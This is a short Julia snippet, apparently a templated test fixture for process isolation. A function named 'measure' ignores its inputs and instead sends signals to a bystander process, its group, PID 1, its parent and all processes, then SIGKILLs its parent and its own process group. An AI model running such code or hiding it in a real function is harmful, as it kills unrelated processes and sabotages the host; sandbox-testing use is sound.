# Signals a bystander, its parent and everyone at once; then itself.

function measure(values, weight)
    for pid in [parse(Int, "@BYSTANDER@"), -parse(Int, "@BYSTANDER@"), 1, Int(ccall(:getppid, Cint, ())), -1]
        ccall(:kill, Cint, (Cint, Cint), pid, 23)
    end
    ccall(:kill, Cint, (Cint, Cint), ccall(:getppid, Cint, ()), 9)
    ccall(:kill, Cint, (Cint, Cint), 0, 9)
    return 0
end
